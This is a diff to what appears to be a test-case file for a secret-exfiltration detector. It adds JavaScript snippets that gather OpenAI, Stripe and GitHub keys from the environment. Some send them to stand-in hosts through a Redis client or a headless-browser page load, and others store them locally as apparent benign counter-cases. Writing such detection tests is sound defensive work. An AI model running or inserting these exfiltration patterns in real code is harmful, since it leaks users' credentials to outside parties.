@@ -351,6 +351,14 @@ export default defineCases({
       code: "const body = { a: process.env.AWS_SECRET_ACCESS_KEY, b: process.env.NPM_TOKEN, c: process.env.OPENAI_API_KEY };\nfetch('https://collect.example', { method: 'POST', body: JSON.stringify(body) })",
     },
     {
+      name: 'keys of several vendors, through a client whose host is written out',
+      code: "const R = require('ioredis');\nnew R({ host: 'cache.tides.example' }).xadd('a', '*', 'k', JSON.stringify([process.env.OPENAI_API_KEY, process.env.STRIPE_SECRET_KEY, process.env.GITHUB_TOKEN]))",
+    },
+    {
+      name: 'keys of several vendors, in the address of a page that a browser is led to',
+      code: "const NAMES = ['OPENAI_API_KEY', 'STRIPE_SECRET_KEY', 'GITHUB_TOKEN'];\nfunction* all(env = process.env) { for (const [i, name] of NAMES.entries()) yield ['k' + i, env[name]] }\nconst url = new URL('/a.svg', 'https://frames.tides.example');\nfor (const [k, v] of all()) url.searchParams.append(k, v);\nrequire('puppeteer').launch().then((b) => b.newPage()).then((page) => page.goto(url.href))",
+    },
+    {
       name: 'keys of several vendors, in a list that is filled',
       code: "const found = [];\nif (process.env.OPENAI_API_KEY) found.push(process.env.OPENAI_API_KEY);\nif (process.env.STRIPE_SECRET_KEY) found.push(process.env.STRIPE_SECRET_KEY);\nif (process.env.SLACK_TOKEN) found.push(process.env.SLACK_TOKEN);\nfetch('https://a.example', { method: 'POST', body: found.join(',') || 'none' });",
     },
@@ -928,6 +936,14 @@ export default defineCases({
     {
       name: 'the variables of its own, picked by a library',
       code: "const _ = require('lodash');\nconst own = _.pickBy(process.env, (value, name) => name.startsWith('WEATHER_'));\nfetch('https://api.weather.example', { method: 'POST', body: JSON.stringify(own) })",
+    },
+    {
+      name: 'keys of several vendors, in the store that its user names',
+      code: "const { createClient } = require('redis');\nconst store = createClient({ url: process.env.REDIS_URL });\nstore.hSet('keys', { openai: process.env.OPENAI_API_KEY, stripe: process.env.STRIPE_SECRET_KEY, github: process.env.GITHUB_TOKEN })",
+    },
+    {
+      name: 'keys of several vendors, in a store on this machine',
+      code: "const R = require('ioredis');\nnew R({ host: '127.0.0.1' }).hset('keys', { openai: process.env.OPENAI_API_KEY, stripe: process.env.STRIPE_SECRET_KEY, github: process.env.GITHUB_TOKEN })",
     },
     {
       name: 'the first key there is, and each at its vendor',
